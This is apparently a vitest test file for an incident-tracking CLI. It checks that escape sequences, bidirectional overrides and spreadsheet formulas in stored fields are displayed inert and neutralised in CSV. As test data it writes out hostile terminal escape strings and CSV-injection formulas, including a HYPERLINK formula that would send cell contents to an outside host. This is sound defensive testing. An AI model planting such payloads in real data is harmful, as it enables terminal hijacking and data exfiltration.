import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { copyFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { Sandbox } from '../helpers/cli.js';
import { KEY, runTty, type Step } from '../helpers/tty.js';

/**
 * Shared-use safety of what people see (issue 20, points 2 and 3): a value holding escape sequences
 * (stored by an import, a tracker import or a direct write) never drives the terminal of whoever
 * reads it, and a value that a spreadsheet would run as a formula is neutralised in CSV.
 */
let sb: Sandbox;
beforeEach(() => {
  sb = new Sandbox();
  sb.env.INCIDENT_NOW = '2026-11-23T01:00:00Z';
});
afterEach(() => sb.cleanup());

/** Clears the screen, sets the window title, and the same again with C1 controls (CSI, OSC). */
const HOSTILE = 'T \u001b[2J\u001b]0;HACKED\u0007 \u009b31m \u009d0;X\u0007 end';
/** How it is shown: every control as \xHH. */
const SHOWN = 'T \\x1b[2J\\x1b]0;HACKED\\x07 \\x9b31m \\x9d0;X\\x07 end';

/**
 * The control characters in text that are not ours: colour (SGR, ESC [ … m) and line ends are
 * allowed (a pty turns LF into CRLF, and CSV's CRLF into CR CRLF), and tabs; anything else (a cursor move, a
 * clear, an OSC title, BEL, C1) is listed.
 */
function rawControls(text: string, allow = /\r*\n|\t/g): string[] {
  const rest = text.replace(/\u001b\[[0-9;]*m/g, '').replace(allow, '');
  return [...rest.matchAll(/[\u0000-\u001f\u007f-\u009f]/g)].map((m) => `U+${m[0].charCodeAt(0).toString(16).padStart(4, '0')}`);
}

/** INC-1 and INC-2 whose title, assignee, team, category and description are hostile, as an import could leave them. */
function seedHostile() {
  for (const title of ['placeholder one', 'placeholder two']) expect(sb.run(['open', title, '--impact', 'high', '--urgency', 'high', '-q']).code).toBe(0);
  const db = sb.openDb();
  db.prepare('UPDATE incidents SET title = ?, assignee = ?, team = ?, category = ?, description = ?').run(HOSTILE, HOSTILE, HOSTILE, HOSTILE, `first line\n${HOSTILE}`);
  db.prepare("INSERT INTO events (incident_id, at, actor, kind, from_value, to_value, note) VALUES (1, '2026-11-23T01:00:01Z', ?, 'noted', ?, ?, ?)").run(
    HOSTILE,
    HOSTILE,
    HOSTILE,
    HOSTILE,
  );
  db.close();
}

describe('escape sequences in stored values, on a terminal (the bytes a pty receives)', () => {
  const tty = (args: string[], env: Record<string, string> = {}) => runTty(sb, args, [], { PAGER: 'cat', COLUMNS: '200', ...env });

  it('the confirmation line of every lifecycle command shows them inert', () => {
    seedHostile();
    for (const args of [
      ['assign', '1', 'bob'],
      ['classify', '1', '--impact', 'high', '--urgency', 'medium'],
      ['escalate', '1', '--reason', 'needs the network team', '--team', 'net'],
      ['hold', '1', '--reason', 'waiting for the vendor'],
      ['resume', '1'],
      ['resolve', '1', '--resolution', 'restarted the VPN concentrator'],
      ['reopen', '1', '--reason', 'it failed again'],
    ]) {
      const r = tty(args);
      expect(r.code, args[0]).toBe(0);
      expect(rawControls(r.output), args[0]).toEqual([]);
      expect(r.output, args[0]).toContain(SHOWN);
    }
  }, 120_000);

  it('list in every format, show, show --format md, search, report and the overview show them inert', () => {
    seedHostile();
    for (const args of [
      ['list'],
      ['list', '--format', 'csv'],
      ['list', '--format', 'md'],
      ['list', '--format', 'tsv'],
      ['show', '1'],
      ['show', '1', '--format', 'md'],
      ['search', 'HACKED'],
      ['report', 'workload', '--group-by', 'team'],
      ['report', 'workload', '--group-by', 'team', '--format', 'md'],
      [],
    ]) {
      const r = tty(args);
      const name = args.join(' ') || '(overview)';
      expect(r.code, name).toBe(0);
      expect(rawControls(r.output), name).toEqual([]);
      expect(r.output, name).toContain(args[0] === 'search' ? 'HACKED' : '\\x1b[2J');
    }
  }, 120_000);

  it('also without colour', () => {
    seedHostile();
    const r = tty(['show', '1'], { NO_COLOR: '1' });
    expect(r.code).toBe(0);
    expect(r.output).not.toContain('\u001b');
    expect(r.output).toContain(SHOWN);
  });

  it('an overdue incident keeps its coloured SLA mark (no stray "[1m" text)', () => {
    seedHostile();
    // The P1 response target is 15 minutes: two hours later it is overdue.
    const r = tty(['show', '2'], { INCIDENT_NOW: '2026-11-23T03:00:00Z' });
    expect(r.output).toMatch(/SLA\S*\s+\u001b\[[0-9;]*m/);
    expect(r.output.replace(/\u001b\[[0-9;]*m/g, '')).not.toMatch(/\[\d+m/);
  });

  it('--json and export: JSON escapes every control (C1 too), and reads back the exact text', () => {
    seedHostile();
    for (const args of [['export'], ['show', '1', '--json'], ['report', 'workload', '--group-by', 'team', '--json']]) {
      const r = tty(args);
      expect(r.code, args[0]).toBe(0);
      expect(rawControls(r.output), args[0]).toEqual([]);
    }
    const lines = tty(['export']).output.split(/\r?\n/).filter((l) => l.startsWith('{'));
    expect(lines.map((l) => JSON.parse(l)).find((o) => o.type === 'incident' && o.id === 1).title).toBe(HOSTILE);
  }, 60_000);

  it('kb edit on a terminal shows a stored title inert as the default, and Enter keeps it as stored', () => {
    expect(sb.run(['kb', 'add', '--title', 'placeholder', '--symptoms', 'line one\nline two', '--resolution', 'r', '-q']).code).toBe(0);
    const db = sb.openDb();
    db.prepare('UPDATE knowledge SET title = ?, cause = ?').run(HOSTILE, `first\n${HOSTILE}`);
    db.close();
    const steps: Step[] = [{ expect: 'Title' }, { send: KEY.enter }];
    for (const field of ['Symptoms', 'Cause', 'Resolution', 'Workaround', 'Category', 'Service']) steps.push({ expect: field }, { send: KEY.enter });
    const r = runTty(sb, ['kb', 'edit', 'KB-1'], steps, { PAGER: 'cat' });
    expect(r.failed).toBeNull();
    expect(r.code).toBe(0);
    // The prompt library moves the cursor itself; what the stored title holds must not get through.
    expect(r.output).not.toMatch(/\u001b\[2J|\u001b\]|\u0007|[\u0080-\u009f]/);
    expect(r.output).toContain(SHOWN);
    expect(sb.query('SELECT title, cause, symptoms FROM knowledge')).toEqual([{ title: HOSTILE, cause: `first\n${HOSTILE}`, symptoms: 'line one\nline two' }]);
  }, 60_000);

  it('error lines that echo what was typed show it inert', () => {
    for (const args of [['show', 'INC-1\u001b[2J'], ['lst\u001b]0;HACKED\u0007'], ['list', '--sort', 'due\u009b2J'], ['list', '--sotr\u001b[2J']]) {
      const r = tty(args);
      expect(r.code, args.join(' ')).toBe(2);
      expect(rawControls(r.output), args.join(' ')).toEqual([]);
      expect(r.output).toMatch(/\\x(1b|9b)/);
    }
    // With a did-you-mean hint: the word as typed, inert, and the suggestion.
    const r = tty(['lst\u0007']);
    expect(rawControls(r.output)).toEqual([]);
    expect(r.output).toContain('unknown command "lst\\x07"');
    expect(r.output).toContain('did you mean list?');
  }, 60_000);
});

describe('escape sequences in stored values, piped', () => {
  it('csv, md and tsv carry no raw control character; csv keeps its CRLF, tsv its tabs', () => {
    seedHostile();
    for (const [args, allow] of [
      [['list', '--format', 'csv'], /\r\n/g],
      [['list', '--format', 'md'], /\n/g],
      [['list', '--format', 'tsv'], /[\t\n]/g],
      [['list'], /[\t\n]/g],
      [['show', '1'], /\n/g],
      [['show', '1', '--format', 'md'], /\n/g],
      [['report', 'workload', '--group-by', 'team', '--format', 'csv'], /\r\n/g],
      [['report', 'workload', '--group-by', 'team', '--format', 'tsv'], /[\t\n]/g],
      [['report', 'workload', '--group-by', 'team', '--format', 'md'], /\n/g],
    ] as const) {
      const r = sb.run([...args]);
      expect(r.code, args.join(' ')).toBe(0);
      expect(rawControls(r.stdout, allow), args.join(' ')).toEqual([]);
      expect(r.stdout, args.join(' ')).toContain(SHOWN);
    }
  });

  it('--json and export keep the exact text (JSON escapes every control, C1 included)', () => {
    seedHostile();
    for (const args of [['show', '1', '--json'], ['list', '--json']]) {
      const r = sb.run(args);
      expect(r.code, args.join(' ')).toBe(0);
      expect(rawControls(r.stdout), args.join(' ')).toEqual([]);
    }
    expect(sb.json(['show', '1']).title).toBe(HOSTILE);
    expect(sb.json(['list'])[0].team).toBe(HOSTILE);
    const exported = sb
      .run(['export'])
      .stdout.trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(exported.find((o) => o.type === 'incident' && o.id === 1).title).toBe(HOSTILE);
    expect(exported.find((o) => o.type === 'incident' && o.id === 1).description).toBe(`first line\n${HOSTILE}`);
  });

  it('a bidirectional override (U+202E) typed into a title is kept as typed but never reorders what is shown', () => {
    // On screen the override would turn "dexif" round, so the title would seem to say "VPN fixed".
    const title = 'VPN \u202edexif\u202c 障害';
    const opened = sb.run(['open', title, '--impact', 'low', '--urgency', 'low', '--category', '\u2066net\u2069', '-q']);
    expect(opened.code).toBe(0);
    for (const args of [['list'], ['list', '--format', 'csv'], ['show', 'INC-1'], ['search', '障害']]) {
      const r = sb.run(args);
      expect(r.code, args.join(' ')).toBe(0);
      expect(r.stdout, args.join(' ')).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
      expect(r.stdout, args.join(' ')).toContain('VPN \\u202edexif\\u202c');
    }
    // JSON escapes them and reads back what was typed; the database holds it as typed.
    const json = sb.run(['show', 'INC-1', '--json']);
    expect(json.stdout).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(JSON.parse(json.stdout)).toMatchObject({ title, category: '\u2066net\u2069' });
    expect(sb.scalar('SELECT title FROM incidents WHERE id = 1')).toBe(title);
  });

  it('messages on stderr (a known error and its workaround) show stored text inert', () => {
    seedHostile();
    expect(sb.run(['problem', 'open', 'VPN drops', '--from', 'INC-2', '-q']).code).toBe(0);
    expect(sb.run(['problem', 'known-error', 'PRB-1', '--root-cause', 'rc', '--workaround', 'restart', '-q']).code).toBe(0);
    const db = sb.openDb();
    db.prepare('UPDATE problems SET workaround = ?, title = ?').run(HOSTILE, HOSTILE);
    db.close();
    // Like INC-2, which PRB-1 holds: flagged as a known error on stderr, piped or not.
    const r = sb.run(['open', 'HACKED end']);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain(`matches PRB-1 (known error): ${SHOWN}`);
    expect(r.stderr).toContain(`workaround: ${SHOWN}`);
    expect(rawControls(r.stderr)).toEqual([]);
    const p = sb.run(['problem', 'show', 'PRB-1']);
    expect(rawControls(p.stdout)).toEqual([]);
    expect(p.stdout).toContain(SHOWN);
  });
});

describe('C1 controls are refused as input, like C0', () => {
  it.each([
    ['title (CSI)', ['open', 'T \u009b2J']],
    ['title (OSC)', ['open', 'T \u009d0;X']],
    ['--team', ['open', 'ok', '--team', 'net\u009bwork']],
    ['--description (long text)', ['open', 'ok', '--description', 'a\nb \u0085 c']],
  ])('%s: exit 2, one line, nothing written', (_what, args) => {
    const r = sb.run(args);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^incident: .* contains control characters\n$/);
    expect(sb.query("SELECT name FROM sqlite_master WHERE name = 'incidents'").length ? sb.scalar('SELECT count(*) FROM incidents') : 0).toBe(0);
  });

  it('an alert with C1 controls in its title is stored without them (ingest)', () => {
    const alert = {
      version: '4',
      status: 'firing',
      receiver: 'incident',
      groupKey: '{}:{}',
      alerts: [
        {
          status: 'firing',
          labels: { alertname: 'Disk\u009b2J', instance: 'db1:9100', severity: 'critical' },
          annotations: { summary: 'Disk \u009b2J\u001b]0;X\u0007full' },
          startsAt: '2026-11-23T00:55:00Z',
          endsAt: '0001-01-01T00:00:00Z',
        },
      ],
    };
    const r = sb.run(['ingest', '-', '-q'], { input: JSON.stringify(alert) });
    expect(r.code).toBe(0);
    const [{ title }] = sb.query<{ title: string }>('SELECT title FROM incidents');
    expect(title).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    expect(title).toContain('Disk');
  });
});

/** Reads CSV with Python's csv module: what a spreadsheet or a script would see, not our own reader. */
function readCsv(text: string): string[][] {
  const r = spawnSync('python3', ['-I', '-c', 'import csv, io, json, sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))'], {
    input: text,
    encoding: 'utf8',
  });
  if (r.status !== 0) throw new Error(r.stderr);
  return JSON.parse(r.stdout);
}

describe('spreadsheet formulas in CSV (OWASP: a leading apostrophe)', () => {
  const HYPERLINK = '=HYPERLINK("http://x/?"&A1,"click")';

  /** Incidents whose text starts as a formula would: typed, and (tab, CR) as an import could leave them. */
  function seedFormulas(box = sb) {
    // Options first (`--team=-x`: a value may start with a dash), then `--` and the title.
    const open = (title: string, ...opts: string[]) => expect(box.run(['open', '-q', ...opts, '--', title]).code).toBe(0);
    open(HYPERLINK, '--team', '=1+1', '--category', '@x', '--assignee', '=2+2', '--service', '+svc', '--impact', 'high', '--urgency', 'high');
    open('-5 degrees in the server room', '--team', '@SUM(1+1)', '--category=-cmd', '--assignee', '+bob', '--impact', 'high', '--urgency', 'high');
    open('plain title', '--team', 'net', '--category', 'ok');
    const db = box.openDb();
    db.prepare('UPDATE incidents SET team = ?, category = ?, assignee = ? WHERE id = 3').run('\t=1+1', '\r=1+1', ' =1+1');
    db.close();
  }

  /** Every text cell a spreadsheet would run: starts with = + - @ tab or CR (also after spaces). */
  const runnable = (rows: string[][]) => rows.flat().filter((c) => /^(?:[\t\r]|\s*[=+\-@＝＋－＠])/.test(c));

  it('list --format csv: each such cell starts with an apostrophe, the rest is the text', () => {
    seedFormulas();
    const r = sb.run(['list', '--format', 'csv', '--sort', 'id']);
    expect(r.code).toBe(0);
    const [head, ...rows] = readCsv(r.stdout);
    const at = (ref: string, key: string) => rows.find((row) => row[0] === ref)![head.indexOf(key)];
    expect(at('INC-1', 'title')).toBe(`'${HYPERLINK}`);
    expect(at('INC-1', 'team')).toBe("'=1+1");
    expect(at('INC-1', 'category')).toBe("'@x");
    expect(at('INC-1', 'assignee')).toBe("'=2+2");
    expect(at('INC-2', 'title')).toBe("'-5 degrees in the server room");
    expect(at('INC-2', 'team')).toBe("'@SUM(1+1)");
    expect(at('INC-2', 'category')).toBe("'-cmd");
    expect(at('INC-2', 'assignee')).toBe("'+bob");
    // Tab and CR first, and a formula after a space: neutralised too (the CR shown as \x0d).
    expect(at('INC-3', 'team')).toBe("'\t=1+1");
    expect(at('INC-3', 'category')).toBe("'\\x0d=1+1");
    expect(at('INC-3', 'assignee')).toBe("' =1+1");
    expect(at('INC-3', 'title')).toBe('plain title');
    expect(runnable(rows)).toEqual([]);
    // The exact text stays in --json.
    expect(sb.json(['list']).find((i: { ref: string }) => i.ref === 'INC-1').title).toBe(HYPERLINK);
  });

  it('tsv (for scripts) and md are not changed', () => {
    seedFormulas();
    const line = (format: string) => sb.run(['list', '--format', format]).stdout.split('\n').find((l) => l.includes('INC-1'))!;
    expect(line('tsv').split('\t')[3]).toBe(HYPERLINK);
    expect(line('md')).toContain(`| ${HYPERLINK} |`);
  });

  describe('report … --format csv, every kind', () => {
    // Made once and copied into each test's sandbox: resolved two hours after opening (past the P1
    // targets, so the SLA report lists breaches with titles), a knowledge entry and a problem.
    const later = { env: { INCIDENT_NOW: '2026-11-23T03:00:00Z' } };
    let template: Sandbox;
    beforeAll(() => {
      template = new Sandbox();
      template.env.INCIDENT_NOW = '2026-11-23T01:00:00Z';
      seedFormulas(template);
      for (const id of ['1', '2']) expect(template.run(['resolve', id, '--resolution', '=fixed', '-q'], later).code).toBe(0);
      expect(template.run(['kb', 'add', '--title', '=KB', '--category', '@kb', '--symptoms', 's', '--resolution', 'r', '-q']).code).toBe(0);
      expect(template.run(['problem', 'open', '--from', 'INC-1,INC-2', '--owner=-owner', '-q']).code).toBe(0);
    }, 120_000);
    afterAll(() => template.cleanup());

    it.each([
      [['summary'], []],
      [['sla'], [`'${HYPERLINK}`]],
      [['sla', '--group-by', 'team'], ["'=1+1", "'@SUM(1+1)"]],
      [['mttr', '--group-by', 'assignee'], ["'=2+2", "'+bob"]],
      [['recurring'], []],
      [['workload'], ["'=2+2", "'+bob"]],
      [['workload', '--group-by', 'category'], ["'@x", "'-cmd"]],
      [['trend'], []],
      [['kb'], ["'=KB"]],
      [['problems'], [`'${HYPERLINK}`, "'-owner"]],
    ])('%j: no cell would run; text cells neutralised', (args, expected) => {
      copyFileSync(template.db, sb.db);
      const r = sb.run(['report', ...args, '--format', 'csv', '--since', '2026-11-01'], later);
      expect(r.code).toBe(0);
      const rows = readCsv(r.stdout);
      expect(runnable(rows)).toEqual([]);
      for (const cell of expected) expect(rows.flat()).toContain(cell);
    });
  });
});
